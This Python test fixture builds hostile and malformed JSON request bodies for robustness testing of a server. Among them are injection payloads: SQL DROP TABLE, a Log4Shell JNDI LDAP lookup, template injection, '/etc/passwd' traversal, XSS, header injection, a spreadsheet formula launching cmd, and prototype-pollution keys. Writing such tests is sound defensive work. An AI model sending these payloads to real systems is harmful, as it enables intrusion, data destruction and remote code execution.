"""Bodies that no friend sends: for tests of the server and for the long proof."""

import json

GOOD = {"size": 0.5, "weight": 100.0, "shop": "north"}


def rows(*several, **changes) -> bytes:
    """A body of rows that are like the good one."""
    return json.dumps({"rows": list(several) or [GOOD | changes]}).encode()


def raw(text: str) -> bytes:
    """A body whose first row has `text` for its number, as it is."""
    return b'{"rows": [{"size": ' + text.encode() + b', "weight": 1, "shop": "north"}]}'


DEEP = 200_000
NUMBERS = [
    "NaN",
    "Infinity",
    "-Infinity",
    "1e999",
    "-1e999",
    "1e308",
    "1e39",
    "-1e39",
    "0x10",
    "01",
    "1.",
    ".5",
    "+1",
    "1e",
    "1_000",
    "--1",
    "1,2",
]
NUMBERS += ["9" * 400, "1" + "0" * 5000, "0." + "1" * 10_000, "1e-400", "-0", "true", '"1"', "[]"]
NUMBERS += [
    "{}",
    "[1]",
    '{"$gt": 0}',
    '"\\u0000"',
    '"\\ud800"',
    "nan",
    "undefined",
    "",
    "null,",
    "'1'",
]
TEXTS = ["", " ", "\x00", "\u202e", "🜁" * 500, "x" * 1000, "x" * 1001, "'; DROP TABLE answers; --"]
TEXTS += [
    "${jndi:ldap://x/a}",
    "{{7*7}}",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "%s%n%x",
]
TEXTS += ["\ufffe", "a\r\nSet-Cookie: x=1", "\\u0000", "NaN", "null", "True", "=cmd|'/c calc'!A1"]
WHOLE = [
    b"",
    b" ",
    b"\x00",
    b"\xff\xfe\x00",
    b"\xef\xbb\xbf" + rows(),
    rows().decode().encode("utf-16"),
    b"null",
    b"0",
    b'""',
    b"[]",
    b"{}",
    b"[" * DEEP,
    b"[" * DEEP + b"]" * DEEP,
    b'{"rows":' * DEEP,
    b'{"rows": [' + b'{"size":' * DEEP + b"1" + b"}" * DEEP + b"]}",
    b'{"rows": [' + b"[" * DEEP + b"]" * DEEP + b"]}",
    b'{"rows": [],}',
    b'{"rows": [{}]}',
    b'{"rows": [null]}',
    b'{"rows": [[]]}',
    b'{"rows": ["x"]}',
    b'{"rows": [1, 2]}',
    b'{"rows": {"0": {}}}',
    rows() + rows(),
    rows() + b"x",
    rows()[:-1],
    rows()[:10],
    b'{"__proto__": {}, "rows": []}',
    b'{"rows": [{"__class__": "os.system", "size": 1, "weight": 1, "shop": "a"}]}',
    b'{"rows": [{"size": 1, "size": 2, "weight": 1, "shop": "a"}]}',
    b'{"rows": [{"size": 1, "\\u0073ize": 2, "weight": 1, "shop": "a"}]}',
    b'{"rows": [], "rows": [' + b"1," * 1000 + b"1]}",
    b'{"' + b"k" * 1_000_000 + b'": 1}',
    rows(GOOD | {"k" * 100_000: 1}),
    rows(*[{} for _ in range(1000)]),
    rows(*[GOOD for _ in range(1001)]),
    rows(GOOD | {f"c{i}": i for i in range(5000)}),
    rows(**{"key": "a\nb"}),
    rows(**{"key": "\x00"}),
    rows(**{"key": -(10**30)}),
    rows(**{"key": 1.5}),
    rows(**{"key": None}),
    rows(**{"when": "9999-99-99"}),
    rows(**{"when": "-1"}),
    rows(**{"when": "0001-01-01T00:00:00+23:59"}),
    rows(**{"when": "9999-12-31T23:59:59-23:59"}),
    rows(**{"when": 1e18}),
]
BODIES = (
    WHOLE + [raw(n) for n in NUMBERS] + [rows(shop=t) for t in TEXTS] + [rows(key=t) for t in TEXTS]
)
